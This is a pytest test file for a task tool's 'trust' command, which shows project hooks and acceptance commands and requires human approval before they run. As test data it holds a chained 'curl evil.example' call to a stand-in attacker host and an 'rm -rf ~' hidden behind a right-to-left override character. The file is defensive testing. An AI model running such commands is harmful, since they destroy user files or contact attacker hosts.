"""`taskyard trust` from a shell: commands are shown before they are allowed."""

from __future__ import annotations

import io
import json
import sys
from typing import TYPE_CHECKING

import pytest

from support.command import Shell
from support.repo import git_folder

if TYPE_CHECKING:
    from pathlib import Path


@pytest.fixture
def shell(capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Shell:
    monkeypatch.setenv("TASKYARD_TASKS_DIR", str(tmp_path / "tasks"))
    project = tmp_path / "project"
    git_folder(project)
    monkeypatch.chdir(project)
    return Shell(capsys)


@pytest.fixture
def hooked(shell: Shell, tmp_path: Path) -> Shell:
    """A project that brings a hook."""
    write_hook(tmp_path, "make lint")
    return shell


def write_hook(tmp_path: Path, command: str) -> None:
    folder = tmp_path / "project" / ".taskyard"
    folder.mkdir(exist_ok=True)
    hook = {"hooks": {"TaskCompleted": [{"hooks": [{"type": "command", "command": command}]}]}}
    (folder / "hooks.json").write_text(json.dumps(hook), encoding="utf-8")


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


@pytest.mark.req("H-02")
def test_a_projects_hooks_are_shown_and_allowed_by_a_person(hooked: Shell, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stdin", Terminal("y\n"))

    ran = hooked("trust")

    assert ran.code == 0
    assert "    make lint\n" in ran.out
    assert ran.err == "Allow these commands to run as you? [y/N] "
    assert hooked("trust").out == "Nothing to trust here.\n"


@pytest.mark.req("H-02")
def test_no_is_no(hooked: Shell, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stdin", Terminal("\n"))
    assert hooked("trust").code == 130
    assert hooked.json("trust", "--trusted") == []


@pytest.mark.req("H-02")
def test_where_nobody_can_be_asked_yes_must_be_said(hooked: Shell, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stdin", io.StringIO("y\n"))
    refused = hooked("trust")
    assert refused.code == 2
    assert "make lint" in refused.out
    assert hooked.json("trust", "--trusted") == []

    [trusted] = hooked.json("trust", "--yes")
    assert trusted["commands"] == ["make lint"]


@pytest.mark.req("H-02")
def test_a_changed_hook_must_be_allowed_again_and_trust_can_be_taken_back(hooked: Shell, tmp_path: Path) -> None:
    hooked("trust", "--yes")
    write_hook(tmp_path, "make lint; curl evil.example")

    assert hooked.json("trust", "--yes")[0]["commands"] == ["make lint; curl evil.example"]
    write_hook(tmp_path, "another")
    assert "No longer trusted" in hooked("trust", "--revoke").out
    assert hooked.json("trust", "--trusted") == []
    assert hooked("trust", "--revoke").out == "None of it was trusted.\n"


@pytest.mark.req("L-21", "H-02")
def test_a_task_with_an_acceptance_command_is_done_once_that_is_trusted(shell: Shell) -> None:
    shell("task", "add", "Port", "--accept", "true")
    refused = shell("task", "done", "1", "--by", "ada")
    assert (refused.code, "taskyard trust 1" in refused.err) == (5, True)

    assert shell("trust").out == "Nothing to trust here.\n"
    assert shell("trust", "1", "--yes").code == 0
    assert shell("task", "done", "1", "--by", "ada").code == 0


@pytest.mark.req("L-21", "H-02")
def test_all_commands_of_the_list_can_be_trusted_and_taken_back_together(hooked: Shell) -> None:
    for command in ("make test", "make docs"):
        hooked("task", "add", command, "--accept", command)

    found = hooked.json("trust", "--all", "--yes")
    assert [one["commands"] for one in found] == [["make lint"], ["make test"], ["make docs"]]
    assert len(hooked.json("trust", "--all", "--revoke")) == 3


def test_a_task_without_a_command_is_not_found(shell: Shell) -> None:
    shell("task", "add", "Port")
    assert shell("trust", "1", "--yes").code == 4
    assert shell("trust", "1", "--all", "--yes").code == 2


def test_a_command_of_others_cannot_act_on_the_terminal(shell: Shell, tmp_path: Path) -> None:
    write_hook(tmp_path, "echo harmless\n\trm -rf ~ # \u202e")
    ran = shell("trust", "--yes")
    assert "\u202e" not in ran.out
    assert "rm -rf ~" in ran.out


@pytest.mark.req("L-21")
@pytest.mark.parametrize("verb", ["add", "edit"])
def test_an_acceptance_command_that_a_person_types_at_a_terminal_is_trusted_by_that(
    shell: Shell, monkeypatch: pytest.MonkeyPatch, verb: str
) -> None:
    monkeypatch.setattr(sys, "stdin", Terminal(""))
    if verb == "edit":
        shell("task", "add", "Build")
        shell("task", "edit", "1", "--accept", "true")
    else:
        shell("task", "add", "Build", "--accept", "true")

    [trusted] = shell.json("trust", "--trusted")
    assert (trusted["commands"], trusted["how"]) == (["true"], "typed")
    assert shell("task", "done", "1").code == 0


@pytest.mark.req("L-21")
@pytest.mark.parametrize("who", ["TASKYARD_JOB", "TASKYARD_AGENT", "CLAUDECODE", "GEMINI_CLI", "--by", "no terminal"])
def test_an_acceptance_command_that_an_agent_or_a_script_gives_is_not_trusted(
    shell: Shell, monkeypatch: pytest.MonkeyPatch, who: str
) -> None:
    monkeypatch.setattr(sys, "stdin", io.StringIO("") if who == "no terminal" else Terminal(""))
    if who.isupper():
        monkeypatch.setenv(who, "b00000000")

    shell("task", "add", "Build", "--accept", "touch ran", *(["--by", "bob"] if who == "--by" else []))

    assert shell.json("trust", "--trusted") == []
    assert shell("task", "done", "1", "--force").code == 5
